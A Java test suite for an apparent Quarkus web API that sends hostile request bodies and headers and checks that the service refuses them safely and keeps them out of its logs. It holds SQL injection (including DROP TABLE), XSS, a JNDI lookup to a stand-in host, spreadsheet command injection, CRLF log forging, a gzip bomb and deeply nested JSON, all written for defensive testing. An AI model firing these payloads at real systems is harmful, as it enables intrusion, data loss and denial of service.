package org.fairfollow.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.function.Consumer;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.zip.GZIPOutputStream;
import org.fairfollow.testing.Api;
import org.fairfollow.testing.Contract;
import org.fairfollow.testing.Contract.Operation;
import org.fairfollow.testing.Credentials;
import org.fairfollow.testing.Wire;
import org.fairfollow.testing.Wire.Answer;
import org.jboss.logmanager.ExtLogRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every call of the contract that takes a body, with all that should never come: nothing is a fault of the service, nothing
 * of it stands in the log.
 */
@QuarkusTest
class HostileBodiesApiTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    /** Stands in all that is sent, so that it is found where it should not be. */
    private static final String MARK = "sp0ken";

    private static final int FIFTY_MB = 50 << 20;
    /** A reporter tells only so much in a day. */
    private static final int CALLS_A_TOKEN = 25;

    private static final List<String> HOSTILE = List.of(
            // SQL
            MARK + "' OR '1'='1",
            MARK + "'; DROP TABLE verdict; -- ",
            MARK + "\" UNION SELECT hash FROM reporter #",
            MARK + "\\'",
            MARK + "`",
            "%",
            "_",
            "%" + MARK + "_%",
            // Markup and what runs
            MARK + "<script>alert(1)</script>",
            MARK + "\"><img src=x onerror=alert(1)>",
            MARK + "&lt;b&#0;",
            "javascript:" + MARK,
            "data:text/html," + MARK,
            "file:///etc/" + MARK,
            MARK + "{{7*7}}${7*7}@{x}",
            "${jndi:ldap://" + MARK + ".example/a}",
            "=cmd|' /C " + MARK + "'!A1",
            "@SUM(" + MARK + ")",
            // Text that is not what it seems
            MARK + "\u202egnp.exe",
            MARK + "\u2066\u2069\u200e",
            MARK + "\u200b\u200d\ufeff",
            MARK + "\ud800",
            "\udc00" + MARK,
            MARK + "\u0000",
            MARK + "\u001b[2J",
            MARK + "\r\n2026-01-01 ERROR forged",
            MARK + "\u2028\u0085",
            "gr\u043ewth-" + MARK + ".example",
            "xn--grwth-" + MARK + ".example",
            "../../" + MARK,
            "",
            " ",
            "a".repeat(100_000),
            "\ud83d\ude00".repeat(10_000));

    private final List<String> logged = Collections.synchronizedList(new ArrayList<>());
    private final Handler listener = new Handler() {
        @Override
        public void publish(LogRecord record) {
            String from = String.valueOf(record.getLoggerName());
            // The tests' own client and validator.
            if (!from.startsWith("com.atlassian") && !from.startsWith("org.apache.http")) {
                logged.add(from + " "
                        + (record instanceof ExtLogRecord extended
                                ? extended.getFormattedMessage()
                                : record.getMessage())
                        + record.getThrown());
            }
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    };

    private String opening = "";
    private int calls;

    static List<Operation> withJson() {
        return Contract.operations().stream()
                .filter(operation -> operation.body().isPresent())
                .toList();
    }

    static List<Operation> withBody() {
        return Contract.operations().stream()
                .filter(operation -> !operation.types().isEmpty())
                .toList();
    }

    static List<Operation> writes() {
        return Contract.operations().stream().filter(Operation::isWrite).toList();
    }

    @BeforeEach
    void listen() {
        Logger.getLogger("").addHandler(listener);
    }

    @AfterEach
    void nothingOfItStandsInTheLog() {
        Logger.getLogger("").removeHandler(listener);
        assertThat(logged).noneMatch(line -> line.contains(MARK) || line.contains("\n2026-01-01 ERROR forged"));
    }

    @ParameterizedTest
    @MethodSource("withJson")
    void hostileTextIsTakenAsTextOrRefused(Operation operation) {
        JsonNode body = operation.body().orElseThrow();
        for (List<String> leaf : leaves(body)) {
            for (String text : HOSTILE) {
                Response answer =
                        send(operation, with(body, leaf, JSON.getNodeFactory().textNode(text)));
                assertSafe(answer, leaf + " = " + text.substring(0, Math.min(50, text.length())));
            }
        }
    }

    @ParameterizedTest
    @MethodSource("withJson")
    void valuesOfAnotherTypeAreRefused(Operation operation) throws IOException {
        JsonNode body = operation.body().orElseThrow();
        for (List<String> leaf : leaves(body)) {
            for (String value :
                    List.of("null", "7", "-1", "1e400", "9".repeat(40), "true", "[]", "{}", "[[[]]]", "\"x\"")) {
                assertSafe(send(operation, with(body, leaf, JSON.readTree(value))), leaf + " = " + value);
            }
        }
    }

    /** Neither another's standing nor one's own trust can be set along with what a call takes. */
    @ParameterizedTest
    @MethodSource("withJson")
    void noFieldThatIsNotKnownIsTaken(Operation operation) {
        JsonNode body = operation.body().orElseThrow();
        for (String field : List.of(
                "standing",
                "trust",
                "weight",
                "reporterId",
                "reporter",
                "id",
                "state",
                "role",
                "admin",
                "__proto__",
                MARK,
                MARK + "\r\n2026-01-01 ERROR forged",
                "")) {
            ObjectNode more = body.deepCopy();
            if (more.has(field)) {
                continue;
            }
            more.put(field, "confirmed");
            Response answer = send(operation, more.toString().getBytes(StandardCharsets.UTF_8));
            assertSafe(answer, field);
            if (isLetIn(answer)) {
                assertThat(Api.json(answer).path("code").asText()).as(field).isEqualTo("unknown-field");
            }
        }
    }

    @ParameterizedTest
    @MethodSource("withJson")
    void tenThousandLevelsAreRefused(Operation operation) {
        String deep = "[".repeat(10_000) + "]".repeat(10_000);
        String objects = "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);
        List<String> bodies = new ArrayList<>(List.of(deep, objects, "[".repeat(10_000)));
        operation.body().orElseThrow().fieldNames().forEachRemaining(field -> {
            bodies.add("{\"" + field + "\":" + deep + "}");
            bodies.add("{\"" + field + "\":" + objects + "}");
        });
        for (String body : bodies) {
            Response answer = send(operation, body.getBytes(StandardCharsets.US_ASCII));
            assertThat(answer.statusCode()).isIn(400, 401, 403);
            assertSafe(answer, "deep");
        }
    }

    /** Ten kilobytes that would be ten megabytes: where bodies are JSON none is unpacked; an import is, line by line. */
    @ParameterizedTest
    @MethodSource("withBody")
    void aGzipBombDoesNotGoOff(Operation operation) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write(" ".repeat(10 << 20).getBytes(StandardCharsets.US_ASCII));
        }
        for (String encoding : List.of("gzip", "x-gzip", "deflate", "gzip, gzip", "br", "zstd")) {
            Response answer = request(operation)
                    .header("Content-Type", operation.types().getFirst())
                    .header("Content-Encoding", encoding)
                    .body(packed.toByteArray())
                    .request(operation.method(), operation.path());
            assertSafe(answer, encoding);
            assertThat(answer.statusCode())
                    .isIn(operation.body().isPresent() ? List.of(400, 401, 403, 413, 415) : List.of(200, 400, 415));
        }
    }

    /** An import may have any size, and is read line by line: of a line without an end a MiB is taken and no more. */
    @ParameterizedTest
    @MethodSource("withBody")
    void fiftyMegabytesAreRefusedOrTakenInBoundedMemory(Operation operation) throws IOException {
        byte[] part = "a".repeat(1 << 16).getBytes(StandardCharsets.US_ASCII);
        String authorization = Credentials.opening(operation);
        try (Socket socket = Wire.open()) {
            OutputStream out = socket.getOutputStream();
            try {
                out.write((operation.method() + " " + operation.path() + " HTTP/1.1\r\nHost: localhost\r\n"
                                + "Connection: close\r\nContent-Type: "
                                + operation.types().getFirst() + "\r\n"
                                + (authorization.isEmpty() ? "" : "Authorization: " + authorization + "\r\n")
                                + "Content-Length: " + FIFTY_MB + "\r\n\r\n")
                        .getBytes(StandardCharsets.US_ASCII));
                for (int sent = 0; sent < FIFTY_MB; sent += part.length) {
                    out.write(part);
                }
            } catch (SocketException e) {
                // Refused already.
            }
            Answer answer = Wire.answers(socket.getInputStream()).getFirst();
            if (operation.body().isPresent()) {
                assertThat(answer.status()).isIn(413, 401, 403);
            } else {
                assertThat(answer.status()).isEqualTo(200);
                assertThat(answer.body()).contains("line-too-long");
            }
        }
    }

    /** A page of another site, or of none, gets no further than anybody's program, and reads no answer in its reader's name. */
    @ParameterizedTest
    @MethodSource("writes")
    void foreignOriginsGetNoCredentials(Operation operation) {
        for (String origin : List.of("null", "https://evil.example", "http://localhost.evil.example", "file://")) {
            Response answer = request(operation)
                    .header("Origin", origin)
                    .header("Sec-Fetch-Site", "cross-site")
                    .header("Cookie", "__Host-fairfollow=ffm_" + "A".repeat(32))
                    .request(operation.method(), operation.path());
            assertThat(answer.statusCode()).isLessThan(500);
            assertThat(answer.header("Access-Control-Allow-Credentials")).isNull();
            assertThat(answer.header("Access-Control-Allow-Origin")).isIn(null, "*");
        }
    }

    @ParameterizedTest
    @MethodSource("writes")
    void lineBreaksInHeadersAreRefusedOrHarmless(Operation operation) throws IOException {
        for (String value : List.of(
                "a\rSet-Cookie: x=1",
                "a\n2026-01-01 ERROR forged",
                "a\r\n folded",
                "a\0b",
                "a%0d%0aSet-Cookie: x=1",
                "\u00e9\u001b[2J",
                "k".repeat(8_000))) {
            for (String name : List.of("Idempotency-Key", "Authorization", "Content-Type", "Origin", "User-Agent")) {
                Answer answer =
                        Wire.request(operation.method(), operation.path(), name + ": " + value, "Content-Length: 0");
                assertThat(answer.status()).as(name).isBetween(200, 499);
                assertThat(answer.headers()).doesNotContainKey("Set-Cookie");
            }
        }
    }

    private static boolean isLetIn(Response answer) {
        return answer.statusCode() != 401 && answer.statusCode() != 403;
    }

    private static void assertSafe(Response answer, String what) {
        assertThat(answer.statusCode()).as(what).isBetween(200, 499);
        if (answer.statusCode() >= 400) {
            assertThat(answer.contentType()).as(what).startsWith("application/problem+json");
            assertThat(Api.json(answer).path("code").asText()).as(what).isNotEmpty();
        }
        assertThat(answer.contentType()).as(what).doesNotContain("html");
    }

    private Response send(Operation operation, byte[] body) {
        return request(operation)
                .header("Content-Type", "application/json")
                .body(body)
                .request(operation.method(), operation.path());
    }

    private RequestSpecification request(Operation operation) {
        if (calls++ % CALLS_A_TOKEN == 0) {
            opening = Credentials.opening(operation);
        }
        RequestSpecification request = Api.wrongCall();
        return opening.isEmpty() ? request : request.header("Authorization", opening);
    }

    /** Where values stand, as the names and numbers that lead there; lists and objects are values too. */
    private static List<List<String>> leaves(JsonNode body) {
        List<List<String>> paths = new ArrayList<>();
        collect(body, List.of(), paths::add);
        return paths;
    }

    private static void collect(JsonNode node, List<String> path, Consumer<List<String>> paths) {
        if (!path.isEmpty()) {
            paths.accept(path);
        }
        if (node.isArray() && !node.isEmpty()) {
            collect(node.get(0), append(path, "0"), paths);
        } else {
            node.properties().forEach(field -> collect(field.getValue(), append(path, field.getKey()), paths));
        }
    }

    private static List<String> append(List<String> path, String step) {
        List<String> longer = new ArrayList<>(path);
        longer.add(step);
        return longer;
    }

    /** The bytes as they are: a lone surrogate is sent as the escape it would be. */
    private static byte[] with(JsonNode body, List<String> path, JsonNode value) {
        JsonNode copy = body.deepCopy();
        JsonNode parent = copy;
        for (String step : path.subList(0, path.size() - 1)) {
            parent = parent.isArray() ? parent.get(Integer.parseInt(step)) : parent.get(step);
        }
        if (parent instanceof ArrayNode list) {
            list.set(Integer.parseInt(path.getLast()), value);
        } else {
            ((ObjectNode) parent).set(path.getLast(), value);
        }
        StringBuilder ascii = new StringBuilder();
        for (char c : copy.toString().toCharArray()) {
            ascii.append(c < 0x80 ? String.valueOf(c) : "\\u%04x".formatted((int) c));
        }
        return ascii.toString().getBytes(StandardCharsets.US_ASCII);
    }
}
